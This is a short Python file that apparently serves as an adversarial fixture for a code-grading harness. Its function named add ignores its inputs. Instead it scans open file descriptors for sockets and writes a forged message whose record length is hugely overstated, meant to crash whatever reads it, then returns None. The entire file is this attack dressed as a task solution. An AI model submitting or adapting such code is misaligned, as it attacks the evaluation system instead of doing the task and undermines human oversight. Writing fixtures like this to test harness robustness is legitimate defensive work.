"""Forge record lengths.

problem: add
tries: a record that claims more bytes than its batch holds
sound: crash
"""
import os, stat, struct

def add(a, b):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                record = struct.pack("<cI", b"V", 0xFFFFFFF0) + b"i\x03\x00\x00\x00"
                os.write(number, struct.pack("<cIII", b"B", 0, 1, len(record)) + record)
        except OSError:
            pass
    return None
